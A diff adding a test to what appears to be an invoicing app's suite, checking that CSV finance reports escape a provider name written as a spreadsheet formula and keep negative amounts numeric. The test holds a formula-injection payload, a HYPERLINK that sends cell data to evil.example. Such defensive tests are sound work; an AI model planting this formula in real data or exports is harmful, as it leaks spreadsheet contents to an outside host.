@@ -172,3 +172,21 @@ def test_the_cli_writes_the_report(app, period_paid_out, tmp_path):
     assert target.read_bytes().startswith(b"%PDF")
     refused = runner.invoke(args=[*scope[:-1], "2026-10-26"])
     assert refused.exit_code == 1 and "not the start of an invoicing period" in refused.output
+
+
+def test_a_provider_named_like_a_formula_is_text_in_both_csvs_and_negative_amounts_stay_numbers(
+        app, period_paid_out):
+    from tests.e2e.test_finance_page import sign_in
+
+    accounting, _ = period_paid_out.apps
+    evil = '=HYPERLINK("http://evil.example/?"&A1, "Click")'
+    renamed = period_paid_out.admin["test"].patch(f"/v1/providers/{accounting.id}", {"name": evil})
+    assert renamed.status_code == 200, renamed.json
+    visitor = app.test_client()
+    sign_in(visitor, period_paid_out.admin["test"].key)
+    for response in (_report(period_paid_out, format="csv"), visitor.get(f"/finance/report.csv?period={PERIOD}")):
+        assert response.status_code == 200
+        rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
+        mine = next(r for r in rows if r["provider_id"] == accounting.id)
+        assert mine["provider_name"] == "'" + evil
+        assert mine["clawback"] == "-18.00"  # a number, not text
